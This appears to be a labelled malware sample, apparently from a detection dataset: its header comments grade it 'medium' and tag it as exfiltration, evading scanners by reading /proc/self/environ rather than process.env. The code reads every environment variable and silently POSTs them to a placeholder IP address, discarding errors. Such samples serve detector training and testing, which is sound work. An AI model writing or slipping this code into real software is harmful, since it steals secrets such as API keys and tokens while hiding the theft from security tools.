// evasion: environment read from /proc/self/environ instead of process.env, then posted
// grade: medium; does: exfil
const fs = require('fs');

const raw = fs.readFileSync('/proc/self/environ');
const pairs = raw.toString('latin1').split('\0').filter(Boolean);

fetch('https://203.0.113.7/c', { method: 'POST', body: pairs.join('\n') }).catch(() => {});
